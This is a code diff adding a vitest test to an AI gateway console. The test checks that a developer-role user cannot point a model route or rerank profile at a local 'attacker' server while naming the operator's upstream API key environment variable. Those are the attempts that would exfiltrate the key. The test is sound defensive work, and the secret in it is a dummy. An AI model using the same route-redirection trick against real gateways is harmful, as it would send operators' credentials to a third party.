@@ -18,6 +18,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { ManualClock } from '../../lambdas/engine/clock.js';
 import { Tenants } from '../../lambdas/auth/tenants.js';
 import { Invitations } from '../../lambdas/console/invitations.js';
+import { ModelRoutes } from '../../lambdas/ai/model-routes.js';
 import { SignInLimits, SIGN_IN_WINDOW_MS } from '../../lambdas/console/sign-in-limits.js';
 import { ROUTES } from '../../lambdas/http/routes.js';
 import { useSettings } from '../../lambdas/shared/settings.js';
@@ -410,6 +411,51 @@ describe('roles: no escalation', () => {
     // A demotion applies at once: the demoted admin's next change is refused.
     expect((await own.browser.call('PATCH', `/console/api/people/${adm.person.id}`, { role: 'viewer' })).status).toBe(200);
     expectError(await adm.browser.call('POST', '/console/api/invitations', { email: `late-${Date.now()}@example.com`, role: 'viewer' }), 403, 'role_forbidden');
+  });
+});
+
+describe("the operator's upstream keys", () => {
+  it("a developer cannot send an upstream key the operator named (a server's environment variable, a stack's secret) to an address of its choosing", async () => {
+    process.env.OPERATOR_UPSTREAM_KEY = 'sk-operator-secret-value-123';
+    const seen: string[] = [];
+    const attacker = http.createServer((req, res) => {
+      seen.push(`${req.headers.authorization ?? ''} ${req.headers['api-key'] ?? ''} ${req.headers['x-api-key'] ?? ''}`);
+      req.resume();
+      req.on('end', () => {
+        res.writeHead(200, { 'content-type': 'application/json' });
+        res.end(JSON.stringify({ id: 'x', object: 'chat.completion', created: 1, model: 'm', choices: [{ index: 0, message: { role: 'assistant', content: 'hi' }, finish_reason: 'stop' }], usage: { prompt_tokens: 1, completion_tokens: 1, total_tokens: 2 } }));
+      });
+    });
+    await new Promise<void>((r) => attacker.listen(0, '127.0.0.1', () => r()));
+    const evil = `http://127.0.0.1:${(attacker.address() as { port: number }).port}/v1`;
+    try {
+      // The operator's route, keyed by the admin CLI's rule.
+      await new ModelRoutes(p.engine.kv, () => clock.now()).set(org, { id: 'operator-chat', endpoint: '/v1/chat/completions', provider: 'openai-compatible', base_url: 'https://upstream.example/v1', upstream_model: 'm', api_key_env: 'OPERATOR_UPSTREAM_KEY' });
+      const dev = (await signedInPerson(p.engine, consoleUrl, org, 'developer')).browser;
+      const route = { endpoint: '/v1/chat/completions', provider: 'openai-compatible', model: 'm' };
+      // A new route naming the operator's key, pointed at the attacker.
+      expectError(await dev.call('PUT', '/console/api/routes/exfil', { ...route, base_url: evil, api_key_env: 'OPERATOR_UPSTREAM_KEY' }), 403, 'forbidden', 'api_key_env');
+      expectError(await dev.call('PUT', '/console/api/routes/exfil', { ...route, base_url: evil, api_key_env: 'HOME' }), 403, 'forbidden', 'api_key_env');
+      // A rerank profile is keyed the same way.
+      expectError(await dev.call('PUT', '/console/api/rerank-profiles/exfil', { provider: 'openai-compatible', base_url: evil, model: 'r', api_key_env: 'OPERATOR_UPSTREAM_KEY' }), 403, 'forbidden', 'api_key_env');
+      // The operator's route moved to the attacker with its key kept.
+      expectError(await dev.call('PUT', '/console/api/routes/operator-chat', { ...route, base_url: evil, api_key_env: 'OPERATOR_UPSTREAM_KEY' }), 403, 'forbidden', 'base_url');
+      // Moved without naming the key: it goes without it.
+      const moved = await dev.call('PUT', '/console/api/routes/operator-chat', { ...route, base_url: evil });
+      expect(moved.status, moved.text).toBe(200);
+      expect(moved.body.api_key_env ?? null).toBeNull();
+      const tried = await dev.call('POST', '/console/api/routes/operator-chat/try', { input: 'hello' });
+      expect(tried.status, tried.text).toBeLessThan(500);
+      expect(seen.length).toBeGreaterThan(0);
+      expect(seen.join('\n')).not.toContain('sk-operator-secret-value-123');
+      // Keeping the key where the operator pointed it stays possible (an edit of the price, say).
+      await new ModelRoutes(p.engine.kv, () => clock.now()).set(org, { id: 'operator-chat', endpoint: '/v1/chat/completions', provider: 'openai-compatible', base_url: 'https://upstream.example/v1', upstream_model: 'm', api_key_env: 'OPERATOR_UPSTREAM_KEY' });
+      const kept = await dev.call('PUT', '/console/api/routes/operator-chat', { ...route, base_url: 'https://upstream.example/v1', api_key_env: 'OPERATOR_UPSTREAM_KEY', price_in_per_mtok: 1 });
+      expect(kept.status, kept.text).toBe(200);
+    } finally {
+      delete process.env.OPERATOR_UPSTREAM_KEY;
+      await new Promise((r) => attacker.close(r));
+    }
   });
 });
 
